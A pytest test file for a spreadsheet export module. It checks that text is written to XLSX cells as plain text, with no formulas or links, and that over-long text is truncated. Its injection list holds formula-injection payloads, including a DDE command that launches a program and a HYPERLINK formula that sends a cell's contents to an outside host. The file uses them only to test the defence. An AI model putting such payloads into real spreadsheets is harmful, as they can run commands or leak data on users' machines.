"""Nothing that a person wrote becomes anything but text in a workbook."""

import warnings
from datetime import UTC, datetime
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from xlsxwriter import Workbook

from exports.document import CellMessage, Column, Report, Table
from exports.safe_text import clean, clean_line
from exports.xlsx import render
from exports.xlsx_cells import CellNotWrittenError, write_text

INJECTIONS = [
    '=HYPERLINK("http://e/"&A1,"klikk")',
    "+4712345678",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\n=1",
    "\uff1d1",
    "http://example.org/",
    "00123",
    "1e5",
    "{=1+1}",
    "<r><t>&uferdig",
    "<r>&uferdig</r>",
    "<b>fet</b> & «sitat»",
    "_x0041_",
    "TRUE",
    "#REF!",
]
ANY_TEXT = st.text(st.characters(exclude_categories=()))


def sheet_with(*cells: str, heading: str = "Hva") -> Worksheet:
    column = Column(heading=heading, note="Skriv kort", prompt=CellMessage(title="Hva", text="Skriv kort"))
    table = Table(name="tiltak", title="Tiltak", columns=(column,), rows=tuple((cell,) for cell in cells))
    report = Report(title="Plan", language="nb", created=datetime(2026, 11, 22, tzinfo=UTC), tables=(table,))
    sheet = load_workbook(BytesIO(render(report))).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


@pytest.mark.parametrize("text", INJECTIONS)
def test_render_injection_is_plain_text(text: str) -> None:
    cell = sheet_with(text)["A2"]

    assert cell.data_type == "s"
    assert str(cell.value).strip() == clean(text).strip()
    assert cell.hyperlink is None


@pytest.mark.parametrize("text", INJECTIONS)
def test_render_injection_in_heading_is_plain_text(text: str) -> None:
    sheet = sheet_with("Ring", heading=text)

    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == sheet.tables["tiltak"].tableColumns[0].name


@settings(max_examples=50, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=20))
def test_render_any_text_round_trips(texts: list[str]) -> None:
    sheet = sheet_with(*texts)

    for row, text in enumerate(texts, start=2):
        cell = sheet.cell(row, 1)
        assert str(cell.value or "") == clean(text)
        assert cell.data_type == ("s" if clean(text) else "n")


@settings(max_examples=50, deadline=None)
@given(st.text(st.characters(exclude_categories=()), max_size=60))
def test_render_any_words_around_the_cells(text: str) -> None:
    column = Column(heading=text, note=f"{text}.", prompt=CellMessage(title=text, text=text))
    table = Table(name="tiltak", title=text, columns=(column,), rows=(), note=text)
    created = datetime(2026, 11, 22, tzinfo=UTC)
    report = Report(
        title=text, language="nb", created=created, tables=(table,), facts=((text, text),), about_heading="Om"
    )

    workbook = load_workbook(BytesIO(render(report)))

    assert len(workbook.sheetnames) == 2
    assert str(workbook["Om"]["A3"].value or "") == clean(text)
    assert (workbook.properties.title or "") == clean_line(text)


@pytest.mark.parametrize(("length", "is_cut"), [(32_767, False), (32_768, True), (100_000, True)])
def test_render_long_text_is_cut_with_a_mark(length: int, is_cut: bool) -> None:
    value = str(sheet_with("å" * length)["A2"].value)

    assert len(value) == 32_767
    assert value.endswith(" […]") is is_cut


def test_render_long_emoji_text_is_counted_as_excel_counts() -> None:
    value = str(sheet_with("👍" * 20_000)["A2"].value)

    assert value == "👍" * 16_381 + " […]"


def test_render_long_words_around_the_cells_gives_no_warning() -> None:
    long = "ord " * 500
    column = Column(
        heading=long,
        note=long,
        prompt=CellMessage(title=long, text=long),
        refusal=CellMessage(title=long, text=long),
    )
    table = Table(name="tiltak", title=long, columns=(column,), rows=(), note=long)
    report = Report(
        title=long,
        language=long,
        created=datetime(2026, 11, 22, tzinfo=UTC),
        tables=(table,),
        about_heading=long,
    )

    with warnings.catch_warnings(record=True) as caught:
        content = render(report)

    assert not caught
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert isinstance(sheet, Worksheet)
    check = sheet.data_validations.dataValidation[0]
    assert (len(str(check.promptTitle)), len(str(check.error))) == (32, 255)
    assert str(check.prompt).endswith(" […]")


def test_write_text_outside_the_sheet() -> None:
    with Workbook(BytesIO(), {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Plan")
        with pytest.raises(CellNotWrittenError, match="row 1048577, column 1 of 'Plan'"):
            write_text(sheet, 1_048_576, 0, "for langt ned", look=workbook.add_format())


@pytest.mark.parametrize("text", ["", "\u202e", "\x00"])
def test_render_text_of_nothing_leaves_the_cell_empty(text: str) -> None:
    assert sheet_with(text)["A2"].data_type == "n"
